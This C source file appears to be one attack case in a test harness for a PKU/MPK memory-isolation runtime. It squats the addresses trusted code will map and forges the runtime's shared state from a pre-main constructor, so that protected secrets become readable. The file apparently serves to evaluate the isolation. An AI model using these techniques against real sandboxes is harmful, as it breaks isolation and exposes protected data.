/* C9: memory of the attack's own lies where trusted code will look, before trusted
 * code starts. The attack keeps a second mapping of it. Where the domain is to be: a
 * host that takes an occupied address for a domain made earlier uses it. Where the
 * runtime keeps its own state: a copy of the runtime that finds an earlier one's state
 * joins it, so that a forged one decides what gates do.
 *
 * Source: [PKU Pitfalls]; own reading of start.c.
 */
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"
#include "internal.h"
#include "policy.h"

#define FAKE_BYTES (16 * PAGE_BYTES)

static void *ours; /* the second mapping */

static void squat(uintptr_t address, size_t bytes) {
    int fd = (int)TRY("memfd_create", syscall(SYS_memfd_create, "fake", 0));
    TRY("ftruncate", ftruncate(fd, (off_t)bytes));
    void *there = mmap((void *)address, bytes, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, fd, 0);
    TRY("mmap", there == MAP_FAILED ? -1 : 0);
    ours = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    TRY("mmap", ours == MAP_FAILED ? -1 : 0);
}

static void squat_domain(void) { squat(MPK_HOST_BASE, FAKE_BYTES); }

/* The bare host has a trusted address too, and asks whether something is there. */
static void use_trusted_address(void) {
    if (!target.undefended) return;
    void *wanted = (void *)MPK_HOST_BASE;
    void *there = mmap(wanted, FAKE_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE,
                       -1, 0);
    if (there == MAP_FAILED && errno != EEXIST) trouble("mmap: %s", strerror(errno));
    if (target.pku && syscall(SYS_pkey_mprotect, wanted, FAKE_BYTES, PROT_READ | PROT_WRITE, target.key))
        trouble("pkey_mprotect: %s", strerror(errno));
    memcpy(wanted, (void *)target.secret, SECRET_BYTES);
    target.base = MPK_HOST_BASE;
    target.bytes = FAKE_BYTES;
    target.secret = wanted;
}

static void read_ours(void) {
    if (ours) attack_hand_in((char *)ours + ((uintptr_t)target.secret - target.base), SECRET_BYTES);
}

/* Runs before main, as a library's constructor does; later would be too late. */
__attribute__((constructor)) static void forge_state(int count, char **words, char **environment) {
    (void)environment;
    if (count != 5 || strcmp(words[1], "--inside") || strcmp(words[3], "state")) return;
    if (!strcmp(words[4], "undefended")) return; /* that host keeps no state; squat_domain is its attack */
    squat(MPK_PUBLISHED_BASE, MPK_PUBLISHED_BYTES);
    const char *backend = getenv("GALEED_BACKEND");
    struct runtime *forged = ours;
    if (!forged) return;
    forged->backend = backend && !strcmp(backend, "mprotect") ? MPK_BACKEND_MPROTECT : MPK_BACKEND_PKU;
    forged->foreign_rights = MPK_READ; /* by which gates leave every domain readable */
    atomic_store(&forged->magic, MPK_MAGIC);
}

static void squat_bare(void) {
    if (!ours) squat_domain();
}

static void read_state(void) {
    if (target.undefended) read_ours();
    else attack_read();
}

const struct attack attacks[] = {
    {.variant = "domain", .prepare = squat_domain, .while_open = use_trusted_address, .attack = read_ours,
     .flags = ATTACK_BEFORE_START},
    {.variant = "state", .prepare = squat_bare, .while_open = use_trusted_address, .attack = read_state,
     .flags = ATTACK_BEFORE_START},
    {0},
};
